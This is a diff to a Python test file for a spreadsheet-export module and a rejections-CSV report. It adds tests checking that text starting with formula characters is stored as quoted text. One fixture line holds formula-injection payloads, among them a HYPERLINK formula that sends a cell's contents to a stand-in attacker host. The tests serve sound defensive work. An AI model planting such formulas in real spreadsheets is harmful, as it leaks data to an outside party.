@@ -1,7 +1,10 @@
-"""The streaming spreadsheet writer every download uses, read back with openpyxl."""
+"""The streaming spreadsheet writer every download uses, read back with
+openpyxl, and the rejections CSV: no text in either runs as a formula."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date, datetime
 
 import pytest
@@ -9,6 +12,7 @@ from openpyxl import load_workbook
 
 from domain.privacy import PersonalNumber
 from services.infra.excel import Column, Sheet, write_workbook
+from services.infra.rejectioncsv import report_csv
 
 
 def test_sheets_have_headers_frozen_widths_and_dates(tmp_path):
@@ -44,3 +48,26 @@ def test_a_personal_number_never_reaches_a_sheet(tmp_path):
         write_workbook(
             [Sheet("全县", [Column("备注")], [("联系 13812345678",)])], tmp_path / "x.xlsx"
         )
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
+
+
+def test_text_that_would_run_as_a_formula_is_a_quoted_text_cell(tmp_path):
+    path = tmp_path / "f.xlsx"
+    rows = [(text, "见到户主") for text in FORMULAS]
+    write_workbook([Sheet("全县", [Column("备注"), Column("情况")], rows)], path)
+    ws = load_workbook(path)["全县"]
+    for r, text in enumerate(FORMULAS, 2):
+        cell = ws.cell(r, 1)
+        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)
+        assert (ws.cell(r, 2).data_type, ws.cell(r, 2).quotePrefix) == ("s", False)
+
+
+def test_the_rejections_csv_quotes_what_would_run_as_a_formula():
+    rows = [(n, text, f"{text} 不是字段") for n, text in enumerate(FORMULAS, 1)]
+    expected = [[str(n), "'" + text, f"'{text} 不是字段"] for n, text in enumerate(FORMULAS, 1)]
+    rows.append((9, "data.amount_yuan", "-"))
+    expected.append(["9", "data.amount_yuan", "'-"])
+    read = list(csv.reader(io.StringIO(report_csv(rows).decode("utf-8-sig"))))
+    assert read == [["row", "field", "reason"], *expected]
